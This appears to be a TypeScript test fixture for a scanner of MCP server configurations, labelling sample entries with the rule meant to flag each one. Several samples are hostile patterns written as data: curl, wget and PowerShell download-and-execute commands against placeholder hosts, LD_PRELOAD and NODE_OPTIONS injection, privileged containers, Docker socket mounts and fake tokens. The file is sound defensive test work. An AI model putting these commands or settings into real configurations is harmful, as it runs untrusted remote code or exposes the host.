/** Attack samples, and harmless neighbours, of configuration entries: each with the rule that has to find it. */
import type { ServerConfig } from '../../../../../src/extension/servers/types';

export interface ConfigSample {
  readonly id: string;
  /** `undefined`: nothing may be found. */
  readonly rule: string | undefined;
  readonly config: ServerConfig;
}

const stdio = (command: string, args: readonly string[] = [], env: Readonly<Record<string, string>> = {}): ServerConfig => ({ type: 'stdio', command, args, env });
const http = (url: string, headers: Readonly<Record<string, string>> = {}): ServerConfig => ({ type: 'http', url, headers });
const key = `ghp_${'aB3dE9xYz0Qw'.repeat(3)}`;

export const configs: { readonly seen: readonly ConfigSample[]; readonly held: readonly ConfigSample[] } = {
  seen: [
    { id: 'npx-no-version', rule: 'config.unpinned', config: stdio('npx', ['-y', '@modelcontextprotocol/server-memory']) },
    { id: 'npx-latest', rule: 'config.unpinned', config: stdio('npx', ['-y', 'some-mcp-server@latest']) },
    { id: 'uvx-no-version', rule: 'config.unpinned', config: stdio('uvx', ['mcp-server-git']) },
    { id: 'docker-latest', rule: 'config.unpinned', config: stdio('docker', ['run', '-i', '--rm', 'mcp/fetch:latest']) },
    { id: 'docker-no-tag', rule: 'config.unpinned', config: stdio('docker', ['run', '-i', '--rm', '-e', 'TOKEN', 'mcp/github']) },
    { id: 'http-off-host', rule: 'config.plainHttp', config: http('http://mcp.example.com/mcp') },
    { id: 'secret-env', rule: 'config.secret', config: stdio('node', ['server.js'], { GITHUB_TOKEN: key }) },
    { id: 'secret-header', rule: 'config.secret', config: http('https://mcp.example.com/mcp', { Authorization: `Bearer ${key}` }) },
    { id: 'secret-arg', rule: 'config.secret', config: stdio('node', ['server.js', '--api-key', 'q8Xz0pLm4RtY7uVw']) },
    { id: 'secret-url', rule: 'config.secret', config: http('https://mcp.example.com/mcp?api_key=q8Xz0pLm4RtY7uVw') },
    { id: 'privileged', rule: 'config.container', config: stdio('docker', ['run', '-i', '--privileged', 'mcp/fetch:1.2.3']) },
    { id: 'docker-socket', rule: 'config.container', config: stdio('docker', ['run', '-i', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'mcp/fetch:1.2.3']) },
    { id: 'curl-sh', rule: 'config.download', config: stdio('bash', ['-c', 'curl -fsSL https://x.example/i.sh | sh']) },
    { id: 'shell-string', rule: 'config.shell', config: stdio('sh', ['-c', 'cd /srv && node server.js']) },
    { id: 'sudo', rule: 'config.sudo', config: stdio('sudo', ['node', 'server.js']) },
    { id: 'temp', rule: 'config.tempCommand', config: stdio('/tmp/server') },
    { id: 'typo', rule: 'config.typosquat', config: stdio('npx', ['-y', '@modelcontextprotocol/server-filesytem@1.0.0']) },
    { id: 'node-options', rule: 'config.injection', config: stdio('node', ['server.js'], { NODE_OPTIONS: '--require /home/a/x.js' }) },
    { id: 'tls-off', rule: 'config.tls', config: stdio('node', ['server.js'], { NODE_TLS_REJECT_UNAUTHORIZED: '0' }) },
    { id: 'pinned', rule: undefined, config: stdio('npx', ['-y', '@modelcontextprotocol/server-memory@2026.8.31']) },
    { id: 'input', rule: undefined, config: stdio('node', ['server.js'], { GITHUB_TOKEN: '${input:github}' }) },
    { id: 'localhost', rule: undefined, config: http('http://localhost:3000/mcp') },
  ],
  held: [
    { id: 'npx-package-flag', rule: 'config.unpinned', config: stdio('npx', ['--yes', '--package', 'mcp-tools', 'mcp-tools-start']) },
    { id: 'npx-range', rule: 'config.unpinned', config: stdio('npx', ['-y', 'mcp-tools@^2']) },
    { id: 'npx-cmd', rule: 'config.unpinned', config: stdio('cmd', ['/c', 'npx', '-y', 'mcp-tools']) },
    { id: 'bunx', rule: 'config.unpinned', config: stdio('bunx', ['mcp-tools']) },
    { id: 'pnpm-dlx', rule: 'config.unpinned', config: stdio('pnpm', ['dlx', 'mcp-tools@next']) },
    { id: 'pipx-run', rule: 'config.unpinned', config: stdio('pipx', ['run', 'mcp-server-time']) },
    { id: 'uvx-from-git', rule: 'config.unpinned', config: stdio('uvx', ['--from', 'git+https://github.com/a/b', 'b']) },
    { id: 'podman', rule: 'config.unpinned', config: stdio('podman', ['run', '--rm', '-i', 'ghcr.io/a/b']) },
    { id: 'http-private-net', rule: 'config.plainHttp', config: { type: 'sse', url: 'http://10.1.2.3:8080/sse', headers: {} } },
    { id: 'secret-generic-env', rule: 'config.secret', config: stdio('node', ['server.js'], { DB_PASSWORD: 'Tr0ub4dor&3x' }) },
    { id: 'secret-url-password', rule: 'config.secret', config: stdio('npx', ['-y', 'pg-mcp@1.0.0', 'postgres://app:h4rdT0Gu3ss@db.example.com/x']) },
    { id: 'secret-arg-equals', rule: 'config.secret', config: stdio('node', ['server.js', '--token=q8Xz0pLm4RtY7uVw']) },
    { id: 'host-mount', rule: 'config.container', config: stdio('docker', ['run', '-i', '--mount', 'type=bind,source=/,target=/host', 'mcp/fetch:1.2.3']) },
    { id: 'host-network', rule: 'config.container', config: stdio('docker', ['run', '-i', '--network', 'host', 'mcp/fetch:1.2.3']) },
    { id: 'home-mount', rule: 'config.container', config: stdio('docker', ['run', '-i', '-v', '${userHome}:/home', 'mcp/fetch:1.2.3']) },
    { id: 'cap-add', rule: 'config.container', config: stdio('docker', ['run', '-i', '--cap-add=SYS_ADMIN', 'mcp/fetch:1.2.3']) },
    { id: 'wget-python', rule: 'config.download', config: stdio('sh', ['-c', 'wget -qO- https://x.example/a.py | python3 -']) },
    { id: 'powershell-iex', rule: 'config.download', config: stdio('powershell', ['-Command', 'iex (iwr https://x.example/a.ps1)']) },
    { id: 'bash-substitution', rule: 'config.download', config: stdio('bash', ['-c', 'bash <(curl -s https://x.example/i)']) },
    { id: 'cmd-shell', rule: 'config.shell', config: stdio('cmd.exe', ['/c', 'cd C:\\x && node a.js']) },
    { id: 'doas', rule: 'config.sudo', config: stdio('doas', ['/usr/bin/server']) },
    { id: 'downloads', rule: 'config.tempCommand', config: stdio('node', ['/var/tmp/x/server.js']) },
    { id: 'typo-scope', rule: 'config.typosquat', config: stdio('npx', ['-y', '@modelcontextprotoco1/server-github@1.0.0']) },
    { id: 'typo-python', rule: 'config.typosquat', config: stdio('uvx', ['mcp-server-gitt@1.0.0']) },
    { id: 'preload', rule: 'config.injection', config: stdio('node', ['server.js'], { LD_PRELOAD: './x.so' }) },
    { id: 'dyld', rule: 'config.injection', config: stdio('server', [], { DYLD_INSERT_LIBRARIES: '/x.dylib' }) },
    { id: 'insecure-flag', rule: 'config.tls', config: stdio('mcp-remote', ['https://x.example', '--insecure']) },
    { id: 'python-tls', rule: 'config.tls', config: stdio('python', ['-m', 'server'], { PYTHONHTTPSVERIFY: '0' }) },
    { id: 'digest', rule: undefined, config: stdio('docker', ['run', '-i', '--rm', '-e', 'TOKEN', `mcp/github@sha256:${'a1'.repeat(32)}`]) },
    { id: 'uvx-pinned', rule: undefined, config: stdio('uvx', ['mcp-server-git==2025.1.14']) },
    { id: 'own-program', rule: undefined, config: stdio('node', ['${workspaceFolder}/server.js', '--port', '8080'], { LOG_LEVEL: 'debug', CACHE_TOKENS: '400' }) },
    { id: 'https-header-input', rule: undefined, config: http('https://mcp.example.com/mcp', { Authorization: 'Bearer ${input:token}', 'X-Region': 'eu' }) },
    { id: 'docker-tag', rule: undefined, config: stdio('docker', ['run', '-i', '--rm', '-v', '${workspaceFolder}:/work:ro', 'mcp/fetch:1.2.3']) },
  ],
};
